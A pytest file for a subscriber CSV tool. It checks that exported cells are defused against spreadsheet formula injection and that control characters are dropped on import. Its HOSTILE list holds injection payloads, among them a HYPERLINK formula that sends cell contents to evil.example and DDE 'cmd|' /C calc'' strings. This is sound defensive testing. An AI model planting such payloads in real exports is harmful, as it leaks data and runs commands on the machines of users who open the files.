"""Subscriber exports that are safe to open in a spreadsheet, and names kept clean on import."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from comms.audience.subscriber_csv import FORMULA_START, defuse_cell

from .ledgerkit import run_cli

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A2,"Klick")',
    "+49 511 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


@pytest.mark.database
def test_exported_cells_never_start_a_formula(tmp_path: Path) -> None:
    (tmp_path / "comms.toml").write_text("", encoding="utf-8")
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["email", "name"])
    for n, name in enumerate(HOSTILE):
        writer.writerow([f"p{n}@example.org", name])
    writer.writerow(["=x@example.org", "Eva\x00\x08 Evil"])
    (tmp_path / "in.csv").write_text(rows.getvalue(), encoding="utf-8")
    code, _, err = run_cli(
        tmp_path, "subscribers", "import", str(tmp_path / "in.csv"), "--confirmed",
        "--consent-note", "x",
    )  # fmt: skip
    assert code == 0, err
    code, out, _ = run_cli(tmp_path, "subscribers", "export")
    assert code == 0
    table = list(csv.DictReader(io.StringIO(out)))
    cells = [value for row in table for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    names = {row["email"]: row["name"] for row in table}
    # The text is all there, shown as text: the leading apostrophe is what spreadsheets hide.
    assert [names[f"p{n}@example.org"] for n in range(len(HOSTILE))] == ["'" + h for h in HOSTILE]
    assert names["'=x@example.org"] == "Eva Evil"  # control characters dropped on import


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_defused(start: str) -> None:
    assert defuse_cell(start + "1+1") == "'" + start + "1+1"
    assert defuse_cell("a" + start) == "a" + start
    assert defuse_cell(None) is None
